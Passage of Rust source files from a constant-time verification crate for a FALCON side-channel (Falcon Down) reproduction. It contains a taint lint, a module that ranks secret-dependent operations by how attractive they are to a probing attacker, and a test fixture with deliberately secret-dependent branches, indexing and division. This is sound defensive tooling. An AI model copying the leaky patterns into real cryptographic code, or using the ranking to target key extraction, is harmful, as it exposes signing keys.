//!    resolved/dropped call-edge counts) and asserts a discovery floor
//!    in CI.
//! 3. **A ranked leakage-site map** ([`sites`], `ct_sites` binary):
//!    every secret-dependent operation in every tainted function is
//!    enumerated as a [`LeakSite`] — mantissa partial-product
//!    multiplies, generic secret multiplies, variable-latency loops,
//!    div/mod, indexing, branches — classified under the `falcon-emsim`
//!    leakage model (HW/HD amplitude vs timing) and scored by word
//!    width, model class and call-graph reach. The ranking is
//!    closed-loop validated: the #1 site must be the partial-product
//!    multiply the DAC'21 CPA actually exploits, and the map must cover
//!    all 14 `ct_dyn` primitives ([`dyncheck::PRIMITIVE_FNS`]).
//! 4. **Unsafe, determinism & atomics audits** ([`audit`]): `unsafe` is
//!    allowed only in the allowlisted SIMD modules and only under a
//!    `// SAFETY:` comment (enforced at zero findings today), library
//!    code is screened for nondeterminism — `HashMap`/`HashSet`
//!    iteration in result paths, wall-clock reads, thread-id/env
//!    dependence, float reduction folds outside the pinned kernels —
//!    and cross-thread atomics in the orchestrator/server must not use
//!    `Ordering::Relaxed`.
//! 5. **A dynamic trace checker** ([`dyncheck`], `ct_dyn` binary):
//!    every `falcon-fpr` primitive runs over fixed-vs-random secret
//!    operand classes (dudect style) with the `ct-check` trace hooks
//!    armed, and the recorded control-flow signatures must be
//!    identical. The deliberately leaky [`dyncheck::fpr_mul_leaky`]
//!    fixture must be *flagged*, proving the detector works.
//!
//! All static findings share one content-addressed fingerprint scheme
//! and compare against checked-in [baselines](baseline)
//! (`ct-baseline.jsonl` for violations, `ct-sites-baseline.jsonl` for
//! sites) so CI fails only on regressions; `--update-baseline` prints
//! the exact added/removed diff for review. The static passes catch
//! what never executes in a test run; the dynamic pass catches what the
//! lexer cannot see (macro-expanded or callee-internal branches). Run
//! all:
//!
//! ```text
//! cargo run -p falcon-ct --bin ct_lint -- --baseline ct-baseline.jsonl
//! cargo run -p falcon-ct --bin ct_dyn
//! cargo run -p falcon-ct --bin ct_graph -- --assert-discoveries 10
//! cargo run -p falcon-ct --bin ct_sites -- --assert-top mantissa-mul --assert-coverage
//! ```

#![forbid(unsafe_code)]

pub mod audit;
pub mod baseline;
pub mod dyncheck;
pub mod fields;
pub mod graph;
pub mod lint;
pub mod report;
pub mod rules;
pub mod scan;
pub mod secret;
pub mod sites;
pub mod summary;

pub use baseline::Baseline;
pub use fields::FieldMap;
pub use graph::CallGraph;
pub use lint::{lint_source, lint_tree, FileOutcome, Rule, TreeOutcome, Violation};
pub use rules::CallAllowlist;
pub use secret::Secret;
pub use sites::{LeakSite, SiteKind, SiteMap};
pub use summary::TaintMap;
