//! Constant-time verification for the Falcon Down reproduction.
//!
//! *Falcon Down* (DAC 2021) recovers FALCON signing keys from EM
//! leakage of the `FFT(c) ⊙ FFT(f)` multiplication — leakage that
//! exists because the emulated floating-point pipeline processes
//! secret-derived values. Defensive hardening of that pipeline (and of
//! the sampler feeding it) only holds if the code stays constant time
//! as it evolves; this crate provides the two complementary checkers
//! that enforce it:
//!
//! 1. **A secret-taint source lint** ([`lint`], `ct_lint` binary):
//!    regions annotated `// ct: secret(…)` are checked, with line-level
//!    taint propagation, for secret-dependent branches, memory indexing,
//!    `/`/`%`, short-circuit booleans, and calls to non-allowlisted
//!    functions. Violations carry `file:line`, render to JSON, and
//!    compare against a checked-in [baseline](baseline) so CI fails
//!    only on regressions.
//! 2. **A dynamic trace checker** ([`dyncheck`], `ct_dyn` binary):
//!    every `falcon-fpr` primitive runs over fixed-vs-random secret
//!    operand classes (dudect style) with the `ct-check` trace hooks
//!    armed, and the recorded control-flow signatures must be
//!    identical. The deliberately leaky [`dyncheck::fpr_mul_leaky`]
//!    fixture must be *flagged*, proving the detector works.
//!
//! The lexical pass catches what never executes in a test run; the
//! dynamic pass catches what the lexer cannot see (macro-expanded or
//! callee-internal branches). Run both:
//!
//! ```text
//! cargo run -p falcon-ct --bin ct_lint
//! cargo run -p falcon-ct --bin ct_dyn
//! ```

#![forbid(unsafe_code)]

pub mod baseline;
pub mod dyncheck;
pub mod lint;
pub mod report;
pub mod rules;
pub mod scan;
pub mod secret;

pub use baseline::Baseline;
pub use lint::{lint_source, lint_tree, FileOutcome, Rule, TreeOutcome, Violation};
pub use rules::CallAllowlist;
pub use secret::Secret;
