//! The leakage-site map: from "where are the violations?" to "where
//! will an attacker point the probe?".
//!
//! The region lint and the interprocedural pass answer a gating
//! question — does secret-dependent control flow or addressing exist?
//! This pass answers the *predictive* one the paper starts from: of all
//! the operations that touch secret data, which ones image into the
//! side channel, under which leakage model, and how strongly? It
//! replays every tainted function with the same flow/field-sensitive
//! [`Taint`](crate::lint::Taint) state the lint uses and records each
//! secret-dependent operation as a [`LeakSite`], classified by the
//! device model's leakage dimensions exported from `falcon-emsim`:
//!
//! * **mantissa-mul** — a partial-product multiply whose result is
//!   recorded as a [`falcon_fpr`] observer `PartialProduct` lane; these
//!   are the paper's attack points, imaged as Hamming weight of a
//!   50–56-bit product ([`StepKind::word_bits`]).
//! * **secret-mul** — any other binary `*` on tainted operands (the
//!   FFT butterflies, the sampler's Gaussian arithmetic).
//! * **var-latency-loop** — the instrumented data-dependent loops
//!   (`DIV_LOOP`, `SQRT_LOOP`, `EXPM_LOOP`): timing, not amplitude.
//! * **div-mod**, **index**, **branch** — the lint's rule hits,
//!   reclassified as timing leaks (latency, cache, pipeline).
//!
//! Each site gets a score `class + 2·width + kind + 3·reach` — leakage
//! class base (HW/HD amplitude ≫ pure timing), imaged word width
//! (signal dynamic range), an a-priori kind weight (a recorded partial
//! product is the demonstrated CPA target), and the function's tainted
//! fan-in (how many distinct secret-handling functions funnel into it).
//! The ranked map is emitted by the `ct_sites` binary as
//! `CT_sites.json` and validated two ways: a superset test that every
//! `ct_dyn` primitive appears in the map, and a closed-loop emsim CPA
//! that recovers the key at the top-ranked site (and fails at an
//! unpredicted one) — see `tests/ct_closed_loop.rs` at the workspace
//! root.

use crate::graph::CallGraph;
use crate::lint::{self, Rule};
use crate::rules::CallAllowlist;
use crate::scan::{idents, Directive};
use crate::summary::TaintMap;
use falcon_emsim::{LeakClass, StepKind};
use std::collections::{BTreeMap, BTreeSet, VecDeque};
use std::fmt;

/// What kind of secret-dependent operation a site is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum SiteKind {
    /// A partial-product multiply recorded on an observer lane — the
    /// paper's CPA target inside the emulated `fpr` multiplier.
    MantissaMul,
    /// Any other binary multiply on tainted operands.
    SecretMul,
    /// An instrumented variable-latency loop (div/sqrt/expm).
    VarLatencyLoop,
    /// `/` or `%` with secrets in scope.
    DivMod,
    /// Secret-dependent memory indexing.
    Index,
    /// Secret-dependent control flow.
    Branch,
}

impl SiteKind {
    /// Stable machine-readable identifier (used in reports/baselines).
    pub fn id(self) -> &'static str {
        match self {
            SiteKind::MantissaMul => "mantissa-mul",
            SiteKind::SecretMul => "secret-mul",
            SiteKind::VarLatencyLoop => "var-latency-loop",
            SiteKind::DivMod => "div-mod",
            SiteKind::Index => "index",
            SiteKind::Branch => "branch",
        }
    }

    /// Inverse of [`SiteKind::id`] (for baseline loading).
    pub fn from_id(id: &str) -> Option<SiteKind> {
        match id {
            "mantissa-mul" => Some(SiteKind::MantissaMul),
            "secret-mul" => Some(SiteKind::SecretMul),
            "var-latency-loop" => Some(SiteKind::VarLatencyLoop),
            "div-mod" => Some(SiteKind::DivMod),
            "index" => Some(SiteKind::Index),
            "branch" => Some(SiteKind::Branch),
            _ => None,
        }
    }

    /// A-priori weight: how directly this operation class has been
    /// demonstrated to yield key recovery (the recorded partial
    /// products are the paper's working attack; a generic multiply
    /// needs a leakage model guess; loops and branches leak bits, not
    /// whole mantissa words).
    fn bonus(self) -> u32 {
        match self {
            SiteKind::MantissaMul => 80,
            SiteKind::SecretMul => 20,
            SiteKind::VarLatencyLoop => 15,
            SiteKind::DivMod => 10,
            SiteKind::Index => 5,
            SiteKind::Branch => 0,
        }
    }
}

impl fmt::Display for SiteKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.id())
    }
}

/// One secret-dependent operation, classified and scored.
#[derive(Debug, Clone)]
pub struct LeakSite {
    /// Workspace-relative file path.
    pub file: String,
    /// 1-based line number.
    pub line: usize,
    /// Qualified name of the enclosing function.
    pub qual: String,
    /// Operation class.
    pub kind: SiteKind,
    /// Leakage-model dimension the operation images into.
    pub class: LeakClass,
    /// Width in bits of the imaged value (signal dynamic range).
    pub width: u32,
    /// The emsim micro-op this site corresponds to, when the operation
    /// is a recorded observer step — the bridge to the trace layout an
    /// attack targets.
    pub step: Option<StepKind>,
    /// Distinct tainted functions that reach the enclosing function
    /// through resolved call edges (capped at 32).
    pub reach: usize,
    /// Ranking score; higher = more attractive to an attacker.
    pub score: u32,
    /// Whether the site sits inside a reviewed `ct: secret` region or
    /// under a `ct: allow` — known and annotated, not a new discovery.
    pub annotated: bool,
    /// What the detector saw.
    pub message: String,
    /// The offending source line, trimmed.
    pub snippet: String,
}

impl LeakSite {
    /// Content-addressed fingerprint for the site baseline: file, kind,
    /// enclosing function and normalised snippet — not the line number
    /// and not the score, so re-ranking or unrelated edits above a site
    /// do not churn the baseline.
    pub fn fingerprint(&self) -> String {
        let mut norm = String::with_capacity(self.snippet.len());
        for (i, word) in self.snippet.split_whitespace().enumerate() {
            if i > 0 {
                norm.push(' ');
            }
            norm.push_str(word);
        }
        format!(
            "{:016x}",
            lint::fnv1a64(&format!("{}|{}|{}|{}", self.file, self.kind.id(), self.qual, norm))
        )
    }
}

impl fmt::Display for LeakSite {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}:{}: [{}/{} w{} score {}] {} — {}",
            self.file,
            self.line,
            self.kind,
            self.class.id(),
            self.width,
            self.score,
            self.qual,
            self.message
        )
    }
}

/// The ranked site map for a whole workspace.
#[derive(Debug, Default)]
pub struct SiteMap {
    /// Sites, sorted by descending score (ties: file, line, kind).
    pub sites: Vec<LeakSite>,
    /// Qualified names of every tainted non-test function the pass
    /// replayed — the "static map" the coverage test checks primitives
    /// against.
    pub scanned: Vec<String>,
}

/// Reach cap: beyond this many tainted ancestors the fan-in signal is
/// saturated (everything in the signing path reaches the fpr kernels).
const REACH_CAP: usize = 32;

impl SiteMap {
    /// Computes the ranked site map from a call graph and its taint
    /// summaries.
    pub fn compute(g: &CallGraph, map: &TaintMap) -> SiteMap {
        let allow = CallAllowlist::workspace_default();
        let reach = reach_counts(g, map);
        let mut sites: Vec<LeakSite> = Vec::new();
        let mut scanned = Vec::new();

        for (i, f) in g.fns.iter().enumerate() {
            if f.is_test || !(map.summaries[i].is_tainted() || f.has_region) {
                continue;
            }
            scanned.push(f.qual.clone());
            let lanes = partial_product_lanes(g, i);
            let mut local = lint::Taint::new();
            for p in &map.summaries[i].tainted_params {
                local.seed(p);
            }
            for p in &map.summaries[i].public_paths {
                local.seed_public(p);
            }
            let mut in_region = false;
            let mut pending_allow = false;
            let (file_idx, stmt_idxs) = (g.body_stmts[i].0, &g.body_stmts[i].1);
            for si in stmt_idxs {
                let stmt = &g.files[file_idx].stmts[*si];
                let code = stmt.code.trim();
                let mut allowed = false;
                for (_, d) in &stmt.directives {
                    match d {
                        Directive::Secret(vars) => {
                            in_region = true;
                            for v in vars {
                                local.seed(v);
                            }
                        }
                        Directive::Public(paths) => {
                            for p in paths.iter().filter(|p| p.contains('.')) {
                                local.seed_public(p);
                            }
                        }
                        Directive::End => in_region = false,
                        Directive::Allow(_) => {
                            if code.is_empty() {
                                pending_allow = true;
                            } else {
                                allowed = true;
                            }
                        }
                        Directive::Bad(_) => {}
                    }
                }
                if code.is_empty() {
                    continue;
                }
                if pending_allow {
                    allowed = true;
                    pending_allow = false;
                }
                let toks = idents(code);
                if lint::is_attribute(code) || lint::is_debug_assert(code, &toks) {
                    continue;
                }
                let annotated = in_region || allowed;
                let mut push = |kind: SiteKind, step: Option<StepKind>, message: String| {
                    let (class, width) = classify(kind, step);
                    sites.push(LeakSite {
                        file: f.file.clone(),
                        line: stmt.line,
                        qual: f.qual.clone(),
                        kind,
                        class,
                        width,
                        step,
                        reach: reach[i],
                        score: 0, // filled below
                        annotated,
                        message,
                        snippet: stmt.raw.trim().to_string(),
                    });
                };

                // Branch / index / div-mod: reuse the lint's rule
                // checks verbatim (same taint state, same span logic).
                lint::check_line(code, &toks, &local, &allow, |rule, msg| {
                    let kind = match rule {
                        Rule::SecretBranch => Some(SiteKind::Branch),
                        Rule::SecretIndex => Some(SiteKind::Index),
                        Rule::SecretDivMod => Some(SiteKind::DivMod),
                        _ => None,
                    };
                    if let Some(kind) = kind {
                        push(kind, None, msg);
                    }
                });

                // Instrumented variable-latency loops.
                for marker in ["DIV_LOOP", "SQRT_LOOP", "EXPM_LOOP"] {
                    if toks.iter().any(|t| t.text == marker) {
                        push(
                            SiteKind::VarLatencyLoop,
                            None,
                            format!("instrumented variable-latency loop `{marker}`"),
                        );
                    }
                }

                // Secret multiplies, upgraded to mantissa-mul when the
                // bound result is recorded on an observer lane.
                let chars: Vec<char> = code.chars().collect();
                let line_tainted =
                    (0..toks.len()).any(|ti| local.occurrence_tainted(&chars, &toks, ti));
                if line_tainted && has_binary_mul(&chars) {
                    let lane_step = lint::binding_eq(&chars).and_then(|eq| {
                        toks.iter()
                            .filter(|t| t.start < eq && !lint::is_keyword(&t.text))
                            .find_map(|t| lanes.get(&t.text).copied())
                    });
                    match lane_step {
                        Some(step) => push(
                            SiteKind::MantissaMul,
                            Some(step),
                            format!("partial-product multiply recorded as observer step {step:?}"),
                        ),
                        None => push(
                            SiteKind::SecretMul,
                            None,
                            "binary multiply on tainted operand(s)".to_string(),
                        ),
                    }
                }

                local.observe(code, &toks);
            }
        }

        for s in &mut sites {
            s.score = score(s.kind, s.class, s.width, s.reach);
        }
        sites.sort_by(|a, b| {
            (b.score, &a.file, a.line, a.kind).cmp(&(a.score, &b.file, b.line, b.kind))
        });
        sites.dedup_by(|a, b| a.fingerprint() == b.fingerprint() && a.line == b.line);
        SiteMap { sites, scanned }
    }

    /// The top-ranked site.
    pub fn top(&self) -> Option<&LeakSite> {
        self.sites.first()
    }
}

/// Leakage class and imaged width of a site. Recorded observer steps
/// take both straight from the device model; everything else defaults
/// to a 64-bit machine word, except branches (one decision bit) — and
/// only the amplitude-model kinds (the multiplies) image as HW/HD,
/// the rest leak through latency.
fn classify(kind: SiteKind, step: Option<StepKind>) -> (LeakClass, u32) {
    if let Some(s) = step {
        return (s.leak_class(), s.word_bits());
    }
    match kind {
        SiteKind::MantissaMul | SiteKind::SecretMul => (LeakClass::Hw, 64),
        SiteKind::Branch => (LeakClass::Timing, 1),
        _ => (LeakClass::Timing, 64),
    }
}

/// The ranking score. Additive on purpose: every term is auditable in
/// the JSON report (`class`, `width`, `kind`, `reach` are all emitted),
/// and the closed-loop test pins the ordering this induces.
fn score(kind: SiteKind, class: LeakClass, width: u32, reach: usize) -> u32 {
    let base = match class {
        LeakClass::Hw | LeakClass::Hd => 100,
        LeakClass::Timing => 10,
    };
    base + 2 * width + kind.bonus() + 3 * reach.min(REACH_CAP) as u32
}

/// Whether the statement contains a binary `*` (multiply): a `*` whose
/// previous non-space char ends an operand (identifier, literal, `)`
/// or `]`) — which excludes derefs, `*mut`/`*const` and `**`.
fn has_binary_mul(chars: &[char]) -> bool {
    for (p, &c) in chars.iter().enumerate() {
        if c != '*' || chars.get(p + 1) == Some(&'*') {
            continue;
        }
        let prev = chars[..p].iter().rev().find(|c| **c != ' ');
        if prev.map(|&c| c.is_alphanumeric() || c == '_' || c == ')' || c == ']').unwrap_or(false) {
            return true;
        }
    }
    false
}

/// Identifiers bound to a recorded observer `PartialProduct` lane in fn
/// `i`'s body: scans for
/// `obs.record(MulStep::PartialProduct { lane: Lane::HiHi, value: w_hh })`
/// shapes and maps `w_hh` → the corresponding emsim pipeline step.
fn partial_product_lanes(g: &CallGraph, i: usize) -> BTreeMap<String, StepKind> {
    let mut out = BTreeMap::new();
    let (file_idx, stmt_idxs) = (g.body_stmts[i].0, &g.body_stmts[i].1);
    for si in stmt_idxs {
        let stmt = &g.files[file_idx].stmts[*si];
        let toks = idents(&stmt.code);
        if !toks.iter().any(|t| t.text == "PartialProduct") {
            continue;
        }
        let lane =
            toks.windows(2).find(|w| w[0].text == "Lane").and_then(|w| lane_step(&w[1].text));
        let value = toks.windows(2).find(|w| w[0].text == "value").map(|w| w[1].text.clone());
        if let (Some(step), Some(ident)) = (lane, value) {
            out.insert(ident, step);
        }
    }
    out
}

/// Observer lane name → emsim pipeline step.
fn lane_step(lane: &str) -> Option<StepKind> {
    match lane {
        "LoLo" => Some(StepKind::PpLoLo),
        "LoHi" => Some(StepKind::PpLoHi),
        "HiLo" => Some(StepKind::PpHiLo),
        "HiHi" => Some(StepKind::PpHiHi),
        _ => None,
    }
}

/// Distinct tainted non-test functions that transitively reach each
/// function through the kept call edges (same resolution policy as the
/// propagation pass), capped at [`REACH_CAP`].
fn reach_counts(g: &CallGraph, map: &TaintMap) -> Vec<usize> {
    let mut callers: Vec<BTreeSet<usize>> = vec![BTreeSet::new(); g.fns.len()];
    for site in &g.calls {
        let cands: Vec<usize> = match &site.recv {
            Some(r) => {
                let qual = format!("{r}::{}", site.callee);
                g.resolve(&site.callee).filter(|&i| g.fns[i].qual == qual).collect()
            }
            None => {
                let all: Vec<usize> = g.resolve(&site.callee).collect();
                if all.len() == 1 {
                    all
                } else {
                    Vec::new()
                }
            }
        };
        for c in cands {
            if c != site.caller {
                callers[c].insert(site.caller);
            }
        }
    }
    (0..g.fns.len())
        .map(|i| {
            let mut seen: BTreeSet<usize> = BTreeSet::new();
            let mut queue: VecDeque<usize> = callers[i].iter().copied().collect();
            while let Some(j) = queue.pop_front() {
                if seen.insert(j) && seen.len() < 4 * REACH_CAP {
                    queue.extend(callers[j].iter().copied());
                }
            }
            seen.iter()
                .filter(|&&j| !g.fns[j].is_test && map.summaries[j].is_tainted())
                .count()
                .min(REACH_CAP)
        })
        .collect()
}

/// Whether the static map covers a dynamic-checker primitive
/// implemented by the named `falcon-fpr` functions: the function
/// itself, or anything it calls (transitively, up to three hops,
/// accepting *every* resolution candidate — coverage tolerates the
/// ambiguity the taint pass refuses), is tainted or carries a
/// `ct: secret` region. The generous resolution matters for the
/// delegating wrappers: `sqr` → `mul` (ambiguous with the `Mul` trait
/// impl) → `mul_observed`.
pub fn covers_primitive(g: &CallGraph, map: &TaintMap, fn_names: &[&str]) -> bool {
    let mut frontier: Vec<usize> = g
        .fns
        .iter()
        .enumerate()
        .filter(|(_, f)| {
            !f.is_test && f.file.starts_with("crates/fpr/") && fn_names.contains(&f.name.as_str())
        })
        .map(|(i, _)| i)
        .collect();
    let mut seen: BTreeSet<usize> = frontier.iter().copied().collect();
    for _hop in 0..3 {
        if frontier.iter().any(|&i| map.summaries[i].is_tainted() || g.fns[i].has_region) {
            return true;
        }
        let mut next = Vec::new();
        for &i in &frontier {
            for site in g.calls.iter().filter(|s| s.caller == i) {
                for c in g.resolve(&site.callee) {
                    if seen.insert(c) {
                        next.push(c);
                    }
                }
            }
        }
        frontier = next;
    }
    frontier.iter().any(|&i| map.summaries[i].is_tainted() || g.fns[i].has_region)
}

#[cfg(test)]
mod tests {
    use super::*;

    const SRC: &str = r#"
pub struct SigningKey { f: Vec<u64> }

impl SigningKey {
    pub fn pointwise(&self, c: u64) -> u64 {
        // ct: secret(self)
        let x0 = self.f[0] & 0x1FF_FFFF;
        let w_ll = x0 * c;
        obs.record(MulStep::PartialProduct { lane: Lane::LoLo, value: w_ll });
        let w_hh = x0 * x0;
        obs.record(MulStep::PartialProduct { lane: Lane::HiHi, value: w_hh });
        let other = w_ll * 3;
        // ct: end
        other
    }

    pub fn bad(&self, i: usize) -> u64 {
        let t = self.f[0];
        if t > 0 {
            return self.f[t as usize % 4];
        }
        t / 3
    }
}
"#;

    fn build() -> (CallGraph, TaintMap) {
        let g = CallGraph::from_sources(&[("crates/x/src/k.rs", SRC)]);
        let m = TaintMap::compute(&g);
        (g, m)
    }

    #[test]
    fn mantissa_muls_outrank_everything() {
        let (g, m) = build();
        let sm = SiteMap::compute(&g, &m);
        let top = sm.top().expect("sites found");
        assert_eq!(top.kind, SiteKind::MantissaMul, "{sm:?}");
        // HiHi (56-bit) beats LoLo (50-bit) beats the plain multiply.
        assert_eq!(top.step, Some(StepKind::PpHiHi));
        let kinds: Vec<SiteKind> = sm.sites.iter().map(|s| s.kind).collect();
        let first_plain = kinds.iter().position(|&k| k == SiteKind::SecretMul).unwrap();
        let last_mantissa = kinds.iter().rposition(|&k| k == SiteKind::MantissaMul).unwrap();
        assert!(last_mantissa < first_plain, "{kinds:?}");
    }

    #[test]
    fn amplitude_sites_outrank_timing_sites() {
        let (g, m) = build();
        let sm = SiteMap::compute(&g, &m);
        let branch = sm.sites.iter().find(|s| s.kind == SiteKind::Branch).expect("branch");
        let index = sm.sites.iter().find(|s| s.kind == SiteKind::Index).expect("index");
        let divmod = sm.sites.iter().find(|s| s.kind == SiteKind::DivMod).expect("divmod");
        let top = sm.top().unwrap();
        assert!(top.score > divmod.score && top.score > index.score && top.score > branch.score);
        assert_eq!(branch.class, LeakClass::Timing);
        assert!(branch.snippet.contains("if t > 0"), "{branch:?}");
        assert!(index.snippet.contains("t as usize"), "{index:?}");
    }

    #[test]
    fn region_sites_are_marked_annotated() {
        let (g, m) = build();
        let sm = SiteMap::compute(&g, &m);
        assert!(sm.sites.iter().filter(|s| s.kind == SiteKind::MantissaMul).all(|s| s.annotated));
        assert!(
            sm.sites.iter().filter(|s| s.qual == "SigningKey::bad").all(|s| !s.annotated),
            "{sm:?}"
        );
    }

    #[test]
    fn scanned_lists_tainted_functions() {
        let (g, m) = build();
        let sm = SiteMap::compute(&g, &m);
        assert!(sm.scanned.iter().any(|q| q == "SigningKey::pointwise"), "{:?}", sm.scanned);
        assert!(sm.scanned.iter().any(|q| q == "SigningKey::bad"), "{:?}", sm.scanned);
    }
}
