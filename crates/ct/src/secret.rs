//! A marker newtype for secret values in checker harnesses.

use std::fmt;

/// Wraps a value that must be treated as secret.
///
/// The wrapper is deliberately thin — it adds no runtime protection —
/// but it makes dataflow explicit at API boundaries: the dynamic
/// checker's operand generators return `Secret<Fpr>` so a reader can
/// see at a glance which operand class is being varied between the
/// fixed and random runs, and `Debug` redacts the payload so secrets
/// cannot leak through panic messages or log lines by accident.
#[derive(Clone, Copy, PartialEq, Eq)]
pub struct Secret<T>(T);

impl<T> Secret<T> {
    /// Marks a value as secret.
    #[inline]
    pub fn new(value: T) -> Secret<T> {
        Secret(value)
    }

    /// Unwraps the value for use inside a checked primitive. The name
    /// is deliberately loud: every call site is a place where a secret
    /// enters computation.
    #[inline]
    pub fn expose(self) -> T {
        self.0
    }

    /// Applies a function to the secret, keeping the marker.
    #[inline]
    pub fn map<U>(self, f: impl FnOnce(T) -> U) -> Secret<U> {
        Secret(f(self.0))
    }
}

impl<T> From<T> for Secret<T> {
    #[inline]
    fn from(value: T) -> Secret<T> {
        Secret(value)
    }
}

impl<T> fmt::Debug for Secret<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("Secret(<redacted>)")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn debug_redacts() {
        let s = Secret::new(0xdead_beefu64);
        assert_eq!(format!("{s:?}"), "Secret(<redacted>)");
    }

    #[test]
    fn map_and_expose() {
        let s = Secret::new(21u32).map(|v| v * 2);
        assert_eq!(s.expose(), 42);
    }
}
