//! The secret-taint lint: flow-sensitive taint tracking plus rule
//! checks over `ct: secret` annotated regions.
//!
//! A region opens with `// ct: secret(a, b)`, which seeds a taint set
//! with the named identifiers, and closes with `// ct: end`. Within a
//! region, taint propagates through `let` bindings and assignments
//! (any binding whose right-hand side mentions a tainted identifier
//! taints its left-hand side). Since v3 the state is **flow-sensitive**:
//! rebinding a name to a public right-hand side *kills* its taint in
//! straight-line code, while kills inside a conditional block are
//! reverted at the closing brace (the branch may not execute, so the
//! join is a union — see [`Taint`]). It is also **field-sensitive**:
//! `// ct: public(sk.logn)` declares a projection public, so reads of
//! `sk.logn` (field or accessor) do not count as tainted even though
//! `sk` itself is secret. Four rules apply inside regions:
//!
//! * **secret-branch** — `if`/`while`/`match` conditions, range-based
//!   `for` bounds, and short-circuit `&&`/`||` must not involve tainted
//!   identifiers (short-circuit evaluation is itself a branch; the
//!   constant-time idiom is bitwise `&`/`|` on `bool`).
//! * **secret-index** — `x[i]` where the *index expression* mentions a
//!   tainted identifier (a tainted base with a public index is a fixed
//!   address and is fine).
//! * **secret-divmod** — `/` or `%` on a tainted line: integer division
//!   has data-dependent latency on every mainstream core.
//! * **secret-call** — calls to functions outside the
//!   [allowlist](crate::rules) on tainted lines, since the lint cannot
//!   see into the callee.
//!
//! A fifth rule, **unsafe-code**, applies everywhere (regions or not):
//! the workspace is `#![deny(unsafe_code)]` and the lint backstops
//! that for code the compiler has not seen yet (fixtures, cfg'd-out
//! blocks). The one carve-out is the explicit-SIMD kernel modules in
//! [`crate::rules::UNSAFE_ALLOWED_MODULES`]: there the rule defers to
//! the stricter **unsafe-audit** pass, which additionally demands a
//! `// SAFETY:` justification on every block — a blanket `unsafe-code`
//! finding in those files would only drown the audit's real signal.
//! **annotation** reports malformed or unbalanced directives so a typo
//! cannot silently disable checking.
//!
//! `// ct: allow(reason)` suppresses the rule checks for one line —
//! the line it trails, or the next code-bearing line when it stands
//! alone — and requires a reason. Lines whose code consists of a
//! `debug_assert!` family macro are skipped entirely: they are compiled
//! out of release signing builds.

use crate::rules::{CallAllowlist, UNSAFE_ALLOWED_MODULES};
use crate::scan::{idents, stitch, Directive, Tok};
use std::collections::BTreeSet;
use std::fmt;
use std::path::Path;

/// Rule identifiers, ordered by severity for report sorting.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Rule {
    /// Secret-dependent control flow.
    SecretBranch,
    /// Secret-dependent memory indexing.
    SecretIndex,
    /// `/` or `%` with secrets in scope.
    SecretDivMod,
    /// Non-allowlisted call with secrets in scope.
    SecretCall,
    /// Any `unsafe` token (workspace is `forbid(unsafe_code)`).
    UnsafeCode,
    /// `unsafe` outside an allowlisted module or without a `// SAFETY:`
    /// justification (the audit gate for the SIMD kernel work).
    UnsafeAudit,
    /// `Ordering::Relaxed` on a cross-thread atomic in the orchestrator
    /// or server (the multi-host sharding work needs acquire/release
    /// edges pinned before it starts).
    AtomicsOrder,
    /// Iteration-order-dependent container in a result-affecting path.
    DetMapIter,
    /// Wall-clock reads (`Instant`/`SystemTime`) in library code.
    DetWallClock,
    /// Environment reads in library code.
    DetEnvRead,
    /// Thread-identity reads in library code.
    DetThreadId,
    /// Non-associative floating-point reduction outside the pinned
    /// fold kernels.
    DetFloatFold,
    /// Malformed or unbalanced `ct:` directive.
    Annotation,
}

impl Rule {
    /// Stable machine-readable identifier (used in reports/baselines).
    pub fn id(self) -> &'static str {
        match self {
            Rule::SecretBranch => "secret-branch",
            Rule::SecretIndex => "secret-index",
            Rule::SecretDivMod => "secret-divmod",
            Rule::SecretCall => "secret-call",
            Rule::UnsafeCode => "unsafe-code",
            Rule::UnsafeAudit => "unsafe-audit",
            Rule::AtomicsOrder => "atomics-order",
            Rule::DetMapIter => "det-map-iter",
            Rule::DetWallClock => "det-wall-clock",
            Rule::DetEnvRead => "det-env-read",
            Rule::DetThreadId => "det-thread-id",
            Rule::DetFloatFold => "det-float-fold",
            Rule::Annotation => "annotation",
        }
    }

    /// Inverse of [`Rule::id`] (for baseline loading).
    pub fn from_id(id: &str) -> Option<Rule> {
        match id {
            "secret-branch" => Some(Rule::SecretBranch),
            "secret-index" => Some(Rule::SecretIndex),
            "secret-divmod" => Some(Rule::SecretDivMod),
            "secret-call" => Some(Rule::SecretCall),
            "unsafe-code" => Some(Rule::UnsafeCode),
            "unsafe-audit" => Some(Rule::UnsafeAudit),
            "atomics-order" => Some(Rule::AtomicsOrder),
            "det-map-iter" => Some(Rule::DetMapIter),
            "det-wall-clock" => Some(Rule::DetWallClock),
            "det-env-read" => Some(Rule::DetEnvRead),
            "det-thread-id" => Some(Rule::DetThreadId),
            "det-float-fold" => Some(Rule::DetFloatFold),
            "annotation" => Some(Rule::Annotation),
            _ => None,
        }
    }
}

impl fmt::Display for Rule {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.id())
    }
}

/// One rule violation at a source location.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Violation {
    /// Path of the offending file (workspace-relative in tree scans).
    pub file: String,
    /// 1-based line number.
    pub line: usize,
    /// The violated rule.
    pub rule: Rule,
    /// Human-readable explanation naming the tainted identifiers.
    pub message: String,
    /// The offending source line, trimmed.
    pub snippet: String,
}

impl Violation {
    /// Content-addressed fingerprint for baselining: hashes the file,
    /// rule and whitespace-normalised snippet — but *not* the line
    /// number, so unrelated edits above a baselined violation do not
    /// resurface it.
    pub fn fingerprint(&self) -> String {
        let mut norm = String::with_capacity(self.snippet.len());
        for (i, word) in self.snippet.split_whitespace().enumerate() {
            if i > 0 {
                norm.push(' ');
            }
            norm.push_str(word);
        }
        format!("{:016x}", fnv1a64(&format!("{}|{}|{}", self.file, self.rule.id(), norm)))
    }
}

impl fmt::Display for Violation {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}:{}: [{}] {}", self.file, self.line, self.rule, self.message)
    }
}

/// 64-bit FNV-1a over UTF-8 bytes.
pub(crate) fn fnv1a64(s: &str) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in s.bytes() {
